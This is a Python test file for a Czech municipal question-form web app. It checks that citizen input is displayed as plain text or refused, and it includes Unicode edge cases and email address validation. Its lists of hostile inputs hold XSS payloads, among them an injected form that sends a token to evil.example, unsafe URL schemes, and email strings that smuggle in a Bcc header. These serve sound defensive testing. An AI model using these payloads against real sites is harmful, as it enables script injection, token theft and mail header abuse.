"""Whatever is sent instead of an honest question is refused with words, in the form that still holds those of the citizen."""

from __future__ import annotations

import time
import urllib.parse
from collections.abc import Callable

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from hub import markup
from hub.steps.hearing import LONGEST
from tests import visitors
from tests.hub.test_uploads import EXE, png
from tests.questions import (
    FORM,
    MAIL,
    QUESTION,
    WORDS,
    Elements,
    ask,
    email_of,
    followed,
    given_back,
    link_of,
    nothing_stored,
    open_form,
    problems_of,
    reference_of,
)
from tests.visitors import assert_refused

RUNS = settings(
    max_examples=30,
    deadline=None,
    database=None,
    phases=[Phase.generate, Phase.shrink],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


PATIENCE = 0.3


EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</p></div></body></html><iframe src=//evil.example></iframe>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>klik</a>",
    "<!--<script>--><![CDATA[<b>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7*7 }}{% raw %}<b>",
    "<style>*{display:none}</style><form action=//evil.example><input name=token>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)


class TestMarkup:
    def test_comes_back_as_words_on_every_page(self, house: Flask, subtests: pytest.Subtests) -> None:
        client, staff = house.test_client(), visitors.signed_in(house)
        harmless = self.pages(house, client, staff, "Neškodná slova", "slova.png")
        for evil in EVIL:
            for what, page in self.pages(house, client, staff, f"x {evil}", f"{evil}.png").items():
                with subtests.test(what, evil=evil[:20]):
                    elements = Elements(page)
                    assert elements.counted() == Elements(harmless[what]).counted()
                    assert evil in elements.text

    def pages(self, house: Flask, client: FlaskClient, staff: FlaskClient, text: str, name: str) -> dict[str, str]:
        sent = ask(client, text, "jana@seznam.cz", files=[(name, png())])
        page = followed(client, sent)
        reference = reference_of(page)
        with house.test_request_context():
            letter = house.jinja_env.get_template("mail/answer.html").render(
                language="cs", city="Havířov", reference=reference, html=markup.paragraphs(text), department="Odbor"
            )
        return {
            "the form": ask(client, text, "není adresa").get_data(as_text=True),
            "the private page": page,
            # Opened from a list that has no other case, so that there is none before it or after it.
            "the case": staff.get(f"/urad/pripady/{reference}?q={reference}").get_data(as_text=True),
            "the letter": letter,
        }

    def test_in_the_email_and_in_names_of_files_is_words_too(self, light: Flask, subtests: pytest.Subtests) -> None:
        client = light.test_client()
        harmless = Elements(ask(client, WORDS, "není adresa").get_data(as_text=True)).counted()
        for evil in EVIL:
            with subtests.test(evil[:20]), nothing_stored(light):
                answer = ask(client, WORDS, evil)
                given_back(answer, 400, email=evil)
                assert Elements(answer.get_data(as_text=True)).counted() == harmless
                named = Elements(ask(client, WORDS, "x", files=[(evil, EXE)]).get_data(as_text=True)).counted()
                assert not {"script", "img", "iframe", "style"} & (named - harmless).keys()
                assert not [name for name in named if name.startswith("@")]


SCHEMES = st.sampled_from(
    ["javascript:", "JavaScript:", "java\tscript:", "java\nscript:", "&#106;avascript:", "\x01javascript:", "data:"]
    + ["data:text/html;base64,", "vbscript:", "file:///", "//", "view-source:", "blob:", "javascript&colon;", "http:javascript:"]
)  # fmt: skip
TAILS = st.sampled_from(["alert(1)", "//a.cz/%0aalert(1)", "a.cz", "//www.a.cz", "x@y.cz", "http://a.cz"]) | st.text(
    max_size=20
)


@given(st.text(max_size=10), SCHEMES, TAILS)
@RUNS
def test_only_web_addresses_and_mail_become_links(before: str, scheme: str, tail: str) -> None:
    for text in (scheme + tail, f"{before} {scheme}{tail}", f'<a href="{scheme}{tail}">x</a>', f"[x]({scheme}{tail})"):
        for tag, attributes in Elements(str(markup.paragraphs(text))).elements:
            assert tag in {"p", "br", "a"}
            if tag == "a":
                assert attributes.keys() == {"href", "rel"}
                assert str(attributes["href"]).startswith(("http://", "https://", "mailto:"))
                assert urllib.parse.urlsplit(str(attributes["href"])).scheme in {"http", "https", "mailto"}
                assert "javascript:" not in str(attributes["href"]).lower().partition("/")[0]


NO_WORDS = {
    "nothing": "",
    "spaces": "  \t \r\n \r\n ",
    "no-break spaces": "\u00a0\u2003\u3000",
    "line separators": "\u2028\u2029\x85",
    "zero-width characters": "\u200b\ufeff\u2060",
    "marks of direction": "\u200f\u202e\u2066",
    "NUL": "\0\0\0",
    "control characters": "\x01\x02\x1b\x7f",
}


class TestWords:
    def test_that_are_none_are_refused(self, house: Flask, subtests: pytest.Subtests) -> None:
        client = house.test_client()
        with nothing_stored(house):
            for what, text in NO_WORDS.items():
                with subtests.test(what):
                    answer = ask(client, text, "jana@seznam.cz")
                    assert answer.status_code == 400
                    assert problems_of(answer.get_data(as_text=True))
                    assert email_of(answer.get_data(as_text=True)) == "jana@seznam.cz"

    @pytest.mark.parametrize("length", [LONGEST + 1, 70 * 1024, 200 * 1024])
    def test_that_are_too_many_come_back_whole(self, house: Flask, length: int) -> None:
        text = "ab" * (length // 2) + "c" * (length % 2)
        with nothing_stored(house):
            given_back(ask(house.test_client(), text), 400, text)

    @pytest.mark.parametrize("kind", ["multipart/form-data", "application/x-www-form-urlencoded"])
    @pytest.mark.parametrize("field", ["text", "more", "email", "token"])
    def test_of_three_hundred_kilobytes_are_not_even_read(self, light: Flask, kind: str, field: str) -> None:
        client = light.test_client()
        data = {"token": open_form(client)["token"], "text": QUESTION, field: "x" * 300 * 1024}
        with nothing_stored(light):
            assert_refused(client.post(FORM, data=data, content_type=kind), 413)

    def test_as_many_as_fit_are_taken(self, house: Flask) -> None:
        client = house.test_client()
        assert "a" * LONGEST in followed(client, ask(client, "a" * LONGEST))

    def test_without_a_space_do_not_keep_the_page_busy(self, light: Flask) -> None:
        client = light.test_client()
        for text in ("a", "a-", "a.", "www.", "a@", "http://", "%40", "(", "&", "<", "Ž1"):
            link = link_of(ask(client, (text * LONGEST)[:LONGEST]))
            began = time.process_time()
            assert client.get(link).status_code == 200
            assert time.process_time() - began < 1, text

    @pytest.mark.parametrize(
        ("text", "kept"),
        [
            ("😀 👍🏽 👨‍👩‍👧", "😀 👍🏽 👨‍👩‍👧"),
            ("Nesvítí\0 lampa", "Nesvítí lampa"),
            ("Nesvítí\x07\x1b[31m lampa\x85", "Nesvítí[31m lampa"),
            ("לא עובד מנורה", "לא עובד מנורה"),
            ("\u202eapmal ítívseN\u202c", "\u202eapmal ítívseN\u202c"),
            ("Nesvi\u0301ti\u0301", "Nesvítí"),
            ("a" + "\u0301" * 200, "á" + "\u0301" * 199),
            ("\ufffe\uffff\U0010ffff", "\ufffe\uffff\U0010ffff"),
        ],
    )
    def test_of_strange_characters_are_kept_clean(self, house: Flask, text: str, kept: str) -> None:
        client = house.test_client()
        page = followed(client, ask(client, text))
        assert kept in Elements(page).text
        staff = visitors.signed_in(house)
        assert staff.get(f"/urad/pripady/{reference_of(page)}").status_code == 200
        assert staff.get("/urad/pripady").status_code == 200

    @pytest.mark.parametrize("sent", [b"Lampa \xff\xfe", b"Lampa \xed\xa0\x80", "Lampa žluťoučká".encode("cp1250")])
    def test_that_are_not_utf_8_are_kept_as_far_as_they_can_be_read(self, house: Flask, sent: bytes) -> None:
        client = house.test_client()
        token = urllib.parse.quote(open_form(client)["token"])
        body = f"token={token}&text=".encode() + urllib.parse.quote(sent).encode()
        kind = "application/x-www-form-urlencoded"
        answer = client.post(FORM, data=body, content_type=kind, environ_overrides={"REMOTE_ADDR": "10.9.9.9"})
        assert "Lampa" in followed(client, answer)


REFUSED = (
    "a@b.cz, c@d.cz",
    "a@b.cz;c@d.cz",
    "a@b.cz c@d.cz",
    "Jan <a@b.cz>",
    "<a@b.cz>",
    '"a"@b.cz',
    '"a b"@c.cz',
    "a@b",
    "a@localhost",
    "a@b.c",
    "a@.cz",
    "a@b..cz",
    "a..b@c.cz",
    ".a@b.cz",
    "a.@b.cz",
    "a@-b.cz",
    "a@b-.cz",
    "a@b@c.cz",
    "@b.cz",
    "a@",
    "a b@c.cz",
    "a@b_c.cz",
    "a@[127.0.0.1]",
    "a@127.0.0.1",
    "a@b.cz\\",
    "a@b.cz>",
    "a(komentář)@b.cz",
    "mailto:a@b.cz",
    "a\u202e@b.cz\u200c",
    "=?utf-8?q?=0ABcc:x?=@b.cz",
    "a" * 65 + "@b.cz",
    "a@" + "b" * 64 + ".cz",
    "a@" + "b" * 63 + ("." + "b" * 60) * 4 + ".cz",
    "\ufffd@b.cz",
    "😀@b.cz",
)
BCC = "Bcc: x@y.cz"


class TestEmail:
    def test_that_is_not_one_plain_address_is_refused(self, house: Flask, subtests: pytest.Subtests) -> None:
        client = house.test_client()
        with nothing_stored(house):
            for email in REFUSED:
                with subtests.test(email[:30]):
                    given_back(ask(client, WORDS, email), 400)

    def test_of_255_characters_is_refused_and_of_254_is_taken(self, house: Flask) -> None:
        client = house.test_client()
        fits = "a@" + ("b" * 61 + ".") * 4 + "cz"
        fits = "a" * (254 - len(fits) + 1) + fits[1:]
        with nothing_stored(house):
            given_back(ask(client, WORDS, "a" + fits), 400, email="a" + fits)
        assert len(fits) == 254
        assert reference_of(followed(client, ask(client, WORDS, fits)))

    @pytest.mark.parametrize(
        "email", [f"a@b.cz{end}{BCC}" for end in ("\r\n", "\n", "\r", "\0", "\x0b", "\u2028", "%0a")] + ["a\0@b.cz"]
    )
    def test_carries_no_other_header(self, house: Flask, email: str) -> None:
        with nothing_stored(house):
            given_back(ask(house.test_client(), WORDS, email), 400)

    def test_with_invisible_characters_around_is_what_is_seen(self, house: Flask) -> None:
        client = house.test_client()
        link_of(ask(client, WORDS, "\ufeff videt@b.cz\u200b\0\r\n"))
        kept = [row for row in visitors.everything(house)["addresses"] if "videt@b.cz" in row]
        assert len(kept) == 1


@given(
    fields=st.dictionaries(
        st.sampled_from(["text", "email", "consent", "token", "web", "files"]), st.text(max_size=40), max_size=4
    )
)
@RUNS
def test_random_values_are_recorded_well_or_given_back(
    houses: Callable[..., Flask], engine: str, fields: dict[str, str]
) -> None:
    app = houses(engine, busy_timeout=0.3, **MAIL)
    client = app.test_client()
    good: dict[str, object] = {"text": QUESTION, "email": "", "token": open_form(client)["token"], "files": []}
    files = [("a.png", png())] if fields.pop("files", None) else []
    answer = ask(client, **{**good, "files": files, **fields})  # type: ignore[arg-type]
    assert answer.status_code in {303, 400}
    if answer.status_code == 303:
        assert reference_of(followed(client, answer))
